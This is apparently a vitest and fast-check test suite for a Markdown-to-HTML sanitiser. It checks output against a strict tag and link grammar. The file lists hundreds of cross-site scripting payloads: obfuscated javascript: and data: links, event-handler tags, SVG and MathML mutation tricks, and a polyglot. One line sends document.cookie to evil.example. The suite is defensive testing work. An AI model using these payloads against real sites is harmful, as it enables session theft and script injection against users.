import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { renderWords, sanitizeWords } from './markdown.ts'

/**
 * The one grammar that rendered words may have: these tags, in exactly this spelling, properly nested, and no other
 * angle bracket. Written apart from the sanitiser, so that one does not repeat the other's mistake.
 */
const tag =
  /^<(?:(\/?)(p|em|strong|ul|ol|li|blockquote|code|a)|(br) \/|ol start="\d{1,9}"|a href="([^"<>]*)" rel="nofollow noopener noreferrer ugc")>/

function faultIn(html: string): string | null {
  const open: string[] = []
  let rest = html
  while (rest) {
    const next = rest.search(/[<>]/)
    if (next < 0) break
    rest = rest.slice(next)
    const match = tag.exec(rest)
    if (!match) return `not allowed: ${rest.slice(0, 60)}`
    const [whole, closing, plain, br, href] = match
    rest = rest.slice(whole.length)
    if (br) continue
    if (closing) {
      const last = open.pop()
      if (last !== plain) return `</${plain}> closes ${last}`
    } else open.push(plain ?? (href === undefined ? 'ol' : 'a'))
    if (href !== undefined && !harmless(href)) return `leads to ${href}`
  }
  return open.length > 0 ? `${open.join()} left open` : null
}

/** As a browser would read the address: entities decoded, control characters and spaces dropped. */
function harmless(href: string): boolean {
  const decoded = href
    .replace(/&#x([0-9a-f]+);?/gi, (_all, hex: string) => String.fromCodePoint(parseInt(hex, 16) % 0x110000))
    .replace(/&#(\d+);?/g, (_all, number: string) => String.fromCodePoint(Number(number) % 0x110000))
    .replace(
      /&(amp|quot|lt|gt|colon|tab|newline);?/gi,
      (_all, name: string) =>
        ({ amp: '&', quot: '"', lt: '<', gt: '>', colon: ':', tab: '\t', newline: '\n' })[name.toLowerCase()]!,
    )
  try {
    const url = new URL(decoded, 'https://here.example/threads/1')
    if (url.protocol === 'mailto:') return true
    if (url.protocol !== 'http:' && url.protocol !== 'https:') return false
    // An address without a protocol stays on this site.
    return /^https?:/i.test(decoded.trim()) || url.host === 'here.example'
  } catch {
    return true // the browser makes nothing of it either
  }
}

const deeds = ['alert(1)', 'fetch(`//evil.example/?${document.cookie}`)']
const [deed] = deeds
const schemes = [
  'javascript:',
  'JavaScript:',
  'jAvAsCrIpT:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\u0000script:',
  'java\u00adscript:',
  '\u0001javascript:',
  '\u200bjavascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  'javascript&#0000058',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript%3A',
  'javascript://%0a',
  'javascript://comment%0d%0a',
  'vbscript:',
  'VbScRiPt:',
  'livescript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'data:image/png;base64,',
  'DATA:application/xhtml+xml,',
  'file:///etc/passwd#',
  'blob:https://here.example/',
  'filesystem:https://here.example/',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:https://evil.example!/',
  'ms-settings:',
  'intent://evil#Intent;scheme=javascript;end',
  '//evil.example/',
  '\\\\evil.example\\',
  '/\\evil.example/',
  '///evil.example/',
]

/** Each scheme in the places where Markdown takes an address. */
const links = schemes.flatMap((scheme) => [
  `[press here](${scheme}${deed})`,
  `[press here](<${scheme}${deed}>)`,
  `<${scheme}${deed}>`,
  `[press here][there]\n\n[there]: ${scheme}${deed}`,
])

const elements = [
  `<script>${deed}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${deed}</script/x>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<script\n>${deed}</script\n>`,
  `<script>${deed}`,
  `</p><script>${deed}</script><p>`,
  `<img src=x onerror=${deed}>`,
  `<img src="x" onerror="${deed}"`,
  `<img/src=x/onerror=${deed}>`,
  `<img src=x:x onerror\n=${deed}>`,
  `<IMG """><SCRIPT>${deed}</SCRIPT>">`,
  `<image xlink:href=x onerror=${deed}>`,
  `<svg onload=${deed}>`,
  `<svg/onload=${deed}//`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><script href=data:,${deed} />`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${deed}"><text y=20>press</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${deed}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${deed}></style></svg>`,
  `<math><mi xlink:href="javascript:${deed}">press</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${deed}>">`,
  `<math><annotation-xml encoding="text/html"><script>${deed}</script></annotation-xml></math>`,
  `<body onload=${deed}>`,
  `<body background="javascript:${deed}">`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${deed}&lt;/script&gt;"></iframe>`,
  `<frameset onload=${deed}>`,
  `<object data="javascript:${deed}"></object>`,
  `<object type="text/x-scriptlet" data="//evil.example/x.html"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${deed}>">`,
  `<applet code="x.class"></applet>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${deed}</script>">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>p{background:url("javascript:${deed}")}</style>`,
  `<div style="width:expression(${deed})">`,
  `<p style="position:fixed;inset:0;background:red">over everything</p>`,
  `<meta http-equiv=refresh content="0;url=javascript:${deed}">`,
  `<meta http-equiv="Set-Cookie" content="login=theirs">`,
  `<base href="javascript:${deed}//">`,
  `<form action="javascript:${deed}"><input type=submit></form>`,
  `<form id=x></form><button form=x formaction="javascript:${deed}">press</button>`,
  `<input autofocus onfocus=${deed}>`,
  `<input type=image src=x onerror=${deed}>`,
  `<select autofocus onfocus=${deed}>`,
  `<textarea autofocus onfocus=${deed}></textarea>`,
  `<keygen autofocus onfocus=${deed}>`,
  `<isindex type=image src=x onerror=${deed}>`,
  `<details open ontoggle=${deed}>`,
  `<marquee onstart=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<video poster="javascript:${deed}"></video>`,
  `<audio src=x onerror=${deed}>`,
  `<table background="javascript:${deed}">`,
  `<a href="javascript:${deed}">press</a>`,
  `<a href=javascript&colon;${deed}>press</a>`,
  `<a href="x" onclick="${deed}">press</a>`,
  `<a href="https://evil.example" target=_blank rel=opener>press</a>`,
  `<p onmouseover=${deed}>move here</p>`,
  `<p id=location name=cookie>clobbered</p>`,
  `<p class="sr-only">hidden from sight</p>`,
  `<template><script>${deed}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>"></noscript>`,
  `<xmp><p title="</xmp><script>${deed}</script>"></xmp>`,
  `<plaintext><script>${deed}</script>`,
  `<title><img src=x onerror=${deed}></title>`,
  `<!--><script>${deed}</script>-->`,
  `<!--[if IE]><script>${deed}</script><![endif]-->`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<?xml version="1.0"?><script>${deed}</script>`,
  `<!DOCTYPE html><script>${deed}</script>`,
  `<% ${deed} %>`,
  `{{constructor.constructor('${deed}')()}}`,
  `{@html "<script>${deed}</script>"}`,
  `\${${deed}}`,
  `<dialog open><form method=dialog>`,
  `<custom-element onclick=${deed}>`,
  `<slot onslotchange=${deed}>`,
  `<portal src="//evil.example">`,
]

const tricks = [
  `![picture](x"onerror="${deed})`,
  `![picture"onerror="${deed}](x)`,
  `![](javascript:${deed})`,
  `[press](https://here.example "title\\" onclick=\\"${deed}")`,
  `[press](https://here.example "</a><script>${deed}</script>")`,
  `[press](https://here.example' onclick='${deed})`,
  `[press](https://here.example/"onmouseover="${deed})`,
  `[<img src=x onerror=${deed}>](https://here.example)`,
  `[[press](javascript:${deed})](https://here.example)`,
  `[a](https://here.example)<script>${deed}</script>`,
  `https://here.example/"onmouseover="${deed}`,
  `https://here.example/<script>${deed}</script>`,
  `https://here.example/%22%3e%3cscript%3e`,
  `https://javascript:${deed}@evil.example`,
  `http://&#106;avascript:${deed}`,
  `mailto:"><script>${deed}</script>@x.example`,
  `mailto:a@b.example?subject="onclick=${deed}`,
  `<https://here.example/"onclick="${deed}>`,
  `<a@b.example"onclick="${deed}>`,
  '`<script>alert(1)</script>`',
  '``<img src=x onerror=alert(1)>``',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <script>alert(1)</script>',
  '1. <img src=x onerror=alert(1)>',
  '99999999999. many',
  '1"onclick="alert(1)". x',
  '# <script>alert(1)</script>',
  '<script>\nalert(1)\n</script>\n===',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '**<script>**alert(1)**</script>**',
  '*<img src=x onerror=*alert(1)*>*',
  '<*script>alert(1)</script*>',
  '<scr\\ipt>alert(1)</scr\\ipt>',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&LT;script&GT;alert(1)&LT;/script&GT;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '\ufeff<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<script\u2028>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<p\x0conclick=alert(1)>',
  "<a href='https://here.example' '' onclick=alert(1)>x</a>",
  '</textarea></title></style></script><script>alert(1)</script>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '[x]: javascript:alert(1)\n[x]',
  '[x]: <javascript:alert(1)> "t"\n\n[press][x]',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '*[HTML]: <script>alert(1)</script>\nHTML',
  ':smile"onclick="alert(1):',
  '@ana"><script>alert(1)</script>',
  '~~<script>~~alert(1)</script>',
  '$$\\href{javascript:alert(1)}{press}$$',
  '<details>\n\n[press](javascript:alert(1))\n\n</details>',
  '[press](javascript:alert(1)"onclick="alert(1))',
  '[press](  javascript:alert(1)  )',
  '[press](\njavascript:alert(1)\n)',
  '[press]( <java\\script:alert(1)> )',
]

const payloads = [...new Set([...links, ...elements, ...tricks])]

describe('what people write', () => {
  test('keeps emphasis, lists, quotes and links, and nothing else', () => {
    expect(renderWords('Some *quiet* and **loud** words\nand a `word`')).toBe(
      '<p>Some <em>quiet</em> and <strong>loud</strong> words<br />\nand a <code>word</code></p>\n',
    )
    expect(renderWords('> said\n\n- one\n- two\n\n3. three')).toBe(
      '<blockquote>\n<p>said</p>\n</blockquote>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol start="3">\n<li>three</li>\n</ol>\n',
    )
    expect(renderWords('See https://help.example/a?b=1&c=2')).toBe(
      '<p>See <a href="https://help.example/a?b=1&amp;c=2" rel="nofollow noopener noreferrer ugc">https://help.example/a?b=1&amp;c=2</a></p>\n',
    )
    expect(renderWords('[a guide](/guides/questions)')).toContain('<a href="/guides/questions"')
    expect(renderWords('# Not a heading\n\n![not a picture](https://x.example/y.png)')).not.toMatch(/<h1|<img/)
  })

  test('makes no link of an address that is empty', () => {
    expect(renderWords('[words]()')).toBe('<p>words</p>\n')
    expect(renderWords('[]()')).toBe('<p></p>\n')
  })

  test('the grammar that outputs are held against refuses what it should', () => {
    for (const bad of [
      '<script>',
      '<p onclick="x">',
      '<p>',
      '</p>',
      '<em><strong></em></strong>',
      '<a href="javascript:x" rel="nofollow noopener noreferrer ugc"></a>',
      '<a href="java&#115;cript:x" rel="nofollow noopener noreferrer ugc"></a>',
      '<a href="//evil.example" rel="nofollow noopener noreferrer ugc"></a>',
      '<a href="https://x.example"></a>',
      '<img src="x" />',
    ]) {
      expect(faultIn(bad), bad).not.toBe(null)
    }
    expect(faultIn('<p>a &lt; b<br /></p>')).toBe(null)
  })

  test('there are payloads enough', () => expect(payloads.length).toBeGreaterThan(250))

  test.each(payloads.map((payload) => [payload]))('does no harm: %j', (payload) => {
    for (const text of [payload, `before ${payload} after`, `> - ${payload}`, `*${payload}*`, `[x](${payload})`]) {
      expect(faultIn(renderWords(text)), text).toBe(null)
    }
  })

  test('nothing that is put together from pieces gets through', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '`',
        '[',
        ']',
        '(',
        ')',
        '!',
        '*',
        '_',
        '\\',
        '&',
        '#',
        ';',
        ':',
        '/',
        '=',
        ' ',
        '\n',
        '\t',
      ],
      ...[
        'javascript:',
        'https://',
        'mailto:',
        'data:',
        '&#x3c;',
        '&lt;',
        'script',
        'img',
        'a',
        'svg',
        'onerror',
        'href',
      ],
      ...[
        '> ',
        '- ',
        '1. ',
        '](',
        '[x]: ',
        '<!--',
        '-->',
        ']]>',
        '\u0000',
        '\u202e',
        'x',
        '\ufeff',
        '<a href="',
        '</p>',
      ],
    )
    const texts = fc.oneof(
      fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')),
      fc
        .tuple(fc.constantFrom(...payloads), fc.constantFrom(...payloads), fc.nat(30))
        .map(([one, two, at]) => one.slice(0, at) + two + one.slice(at)),
      fc.string({ unit: 'binary', maxLength: 80 }),
    )
    fc.assert(
      fc.property(texts, (text) => faultIn(renderWords(text)) === null),
      { numRuns: 3_000 },
    )
    // Also where there was nothing for the sanitiser to do, and it was not asked.
    fc.assert(
      fc.property(texts, (text) => sanitizeWords(renderWords(text)) === renderWords(text)),
      { numRuns: 3_000 },
    )
  })

  test.each(
    [
      '[',
      '![',
      '*',
      '_',
      '**a',
      '*a _b ',
      '>',
      '> a\n',
      '> - a\n>> b\n',
      '- ',
      '  - a\n',
      '<',
      '&',
      '&#',
      '`',
      '``a` ',
      'http://',
      'https://a.example ',
      '[a](',
      '[](',
      '[[]',
      '\\',
      '(',
      '~',
      '# ',
      '---\n',
      '<a ',
      '[x]: y\n',
    ].map((piece) => [piece]),
  )('ten thousand characters of %j take no more than a moment', (piece) => {
    const text = piece.repeat(Math.ceil(10_000 / piece.length)).slice(0, 10_000)
    const cost = (of: string) => {
      const before = process.cpuUsage()
      const html = renderWords(of)
      const { user, system } = process.cpuUsage(before)
      expect(faultIn(html)).toBe(null)
      return (user + system) / 1_000
    }
    cost(text)
    // Some 20 ms on an ordinary machine; ten times that would be another order of growth.
    expect(Math.min(cost(text), cost(text), cost(text))).toBeLessThan(250)
  })
})
